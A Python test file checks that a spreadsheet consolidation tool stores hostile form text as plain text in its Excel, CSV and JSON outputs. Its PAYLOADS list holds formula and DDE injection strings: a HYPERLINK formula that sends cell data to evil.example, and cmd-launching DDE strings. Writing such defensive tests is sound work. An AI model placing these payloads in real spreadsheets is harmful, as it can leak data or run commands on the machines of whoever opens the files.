"""Formula and DDE injection: text from a form never becomes a formula in what perfxl writes."""

from __future__ import annotations

import csv
import json

import pytest

from perfxl.consolidate import INDICATORS, ISSUES, PROJECTS, SHEETS, InlineExecutor, consolidate
from tests.adversarial import hostile as h
from tests.adversarial.conftest import assert_no_traceback, cells, run

#: What OWASP lists as dangerous at the start of a cell, as units would type it into a form.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: The text fields that take a payload, each with its own tail so that a cell tells which it came from.
FIELDS = ("project", "unit", "filled_by", "goal", "problems")


def hostile_form(payload: str) -> list[list]:
    """The clean form with ``payload`` starting every text field, an indicator's name and its target."""
    rows = h.edited({name: f"{payload} {name}" for name in FIELDS})
    first = h.CELL["first_actual"][0]
    rows[first][3] = f"{payload} indicator"  # 三级指标
    rows[first][4] = f"{payload} target"  # 预期指标值
    return rows


def kept(payload: str, field: str) -> str:
    """The text perfxl keeps: the cell's own text, trimmed of the whitespace around it (a leading tab or
    CR is such whitespace), every other character as typed."""
    return f"{payload} {field}".strip()


@pytest.fixture(params=PAYLOADS, ids=[f"payload{i}" for i in range(len(PAYLOADS))])
def injected(request, tmp_path):
    """(payload, form file, summary workbook, CSV folder) of one consolidation run."""
    form = h.write_xlsx(tmp_path / "注入.xlsx", hostile_form(request.param))
    out, folder = tmp_path / "汇总.xlsx", tmp_path / "csv"
    result = run("consolidate", form, "-o", out, "--jobs", "1", "--csv", folder)
    assert_no_traceback(result)
    assert result.exit_code in (0, 1), result.output  # 1: an error the payload makes in the form itself
    return request.param, form, out, folder


def test_summary_cells_holding_input_text_are_text(injected):
    payload, _, out, _ = injected
    projects = [c for row in cells(out, PROJECTS) for c in row if c.value == kept(payload, "project")]
    units = [c for row in cells(out, PROJECTS) for c in row if c.value == kept(payload, "unit")]
    detail = {c.value: c for row in cells(out, INDICATORS) for c in row if isinstance(c.value, str)}
    assert len(projects) == 1 and len(units) == 1
    assert kept(payload, "indicator") in detail and kept(payload, "target") in detail
    for cell in [*projects, *units, detail[kept(payload, "indicator")], detail[kept(payload, "target")]]:
        assert cell.data_type == "s", (cell.coordinate, cell.value)


def test_summary_has_no_formula_anywhere(injected):
    _, _, out, _ = injected
    for sheet in SHEETS:
        for row in cells(out, sheet):
            for cell in row:
                assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                    assert cell.data_type == "s"


def test_csv_cells_starting_like_a_formula_are_quoted(injected):
    payload, _, _, folder = injected
    seen = set()
    for sheet in SHEETS:
        table = list(csv.reader((folder / f"{sheet}.csv").read_text(encoding="utf-8-sig").splitlines()))
        for row in table:
            for value in row:
                if value.startswith(DANGEROUS):
                    float(value)  # only a number (-1.5) may start so: it is written as a number
                seen.add(value)
    for field in ("project", "unit", "indicator", "target"):
        assert "'" + kept(payload, field) in seen, field


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"payload{i}" for i in range(len(PAYLOADS))])
def test_read_json_keeps_the_text(tmp_path, payload):
    form = h.write_xlsx(tmp_path / "注入.xlsx", hostile_form(payload))
    result = run("read", form, "--json")
    assert_no_traceback(result)
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    for field in FIELDS:
        assert data[field] == kept(payload, field), field
    assert data["indicators"][0]["name"] == kept(payload, "indicator")
    assert data["indicators"][0]["target"] == kept(payload, "target")


def test_file_and_sheet_names_are_text_too(tmp_path, monkeypatch):
    # The 来源文件 and 位置 columns come from the file name and the sheet name: both may start with "="
    # (a relative path is written as given).
    monkeypatch.chdir(tmp_path)
    h.write_xlsx(tmp_path / "=1+2 汇报.xlsx", {"=A1": h.edited({"filled_by": None})})
    summary = consolidate(["=1+2 汇报.xlsx"], "汇总.xlsx", executor=InlineExecutor())
    assert summary.findings >= 1
    issues = cells(tmp_path / "汇总.xlsx", ISSUES)
    missing = [row for row in issues if row[3].value == "missing-field"]
    assert missing and missing[0][7].value == "=1+2 汇报.xlsx" and missing[0][5].value.startswith("=A1!")
    for cell in (missing[0][7], missing[0][5]):
        assert cell.data_type == "s"
    source = cells(tmp_path / "汇总.xlsx", PROJECTS)[3][-1]
    assert source.value == "=1+2 汇报.xlsx" and source.data_type == "s"


def test_text_past_excel_cell_limit_is_cut_where_it_is_read(tmp_path):
    # Excel holds at most 32,767 characters in a cell: longer text would make the summary unreadable,
    # and a 150 MB 项目名称 cost gigabytes downstream.
    name = "=" + "长" * 40_000
    form = h.write_xlsx(tmp_path / "长文本.xlsx", h.edited({"project": name}))
    out = tmp_path / "汇总.xlsx"
    consolidate([form], out, executor=InlineExecutor())
    cell = cells(out, PROJECTS)[3][1]
    assert cell.data_type == "s" and cell.value == name[:32_767]
    result = run("read", form, "--json")
    assert json.loads(result.stdout)["project"] == name[:32_767]
